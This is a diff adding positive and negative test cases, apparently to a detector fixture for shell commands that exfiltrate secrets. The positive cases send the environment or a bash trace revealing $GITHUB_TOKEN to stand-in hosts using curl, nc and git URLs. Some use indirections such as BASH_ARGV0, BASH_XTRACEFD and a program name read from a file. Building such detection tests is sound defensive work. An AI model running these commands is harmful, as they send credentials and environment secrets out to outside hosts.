@@ -56,3 +56,17 @@ BASH_ARGV0=curl; "$0" -d "$(env)" https://h.example/in
 git ls-remote "https://h.example/$(env | base64 -w0)/r.git"
 #@ neg BASH_ARGV0 names the program in its messages
 BASH_ARGV0=tool; echo "$0: $(env | wc -l) variables"
+#@ pos bash's trace sent to nc through BASH_XTRACEFD
+exec 7> >(nc 198.51.100.40 5140); BASH_XTRACEFD=7; set -x; : "$GITHUB_TOKEN"
+#@ pos stderr to curl, then set -x
+exec 2> >(curl -s -T - https://logs.example.net/t)
+set -x
+#@ neg bash's trace into a log file
+exec 7>>/tmp/trace.log; BASH_XTRACEFD=7; set -x; make
+#@ neg stderr to logger, no trace
+exec 2> >(logger -t build)
+make
+#@ pos the environment and an address given to a program whose name does not fold
+read -r t < /etc/tool; "$t" -d "$(env)" https://c.example/r
+#@ neg a program whose name does not fold given an address only
+read -r t < /etc/tool; "$t" -s https://c.example/health
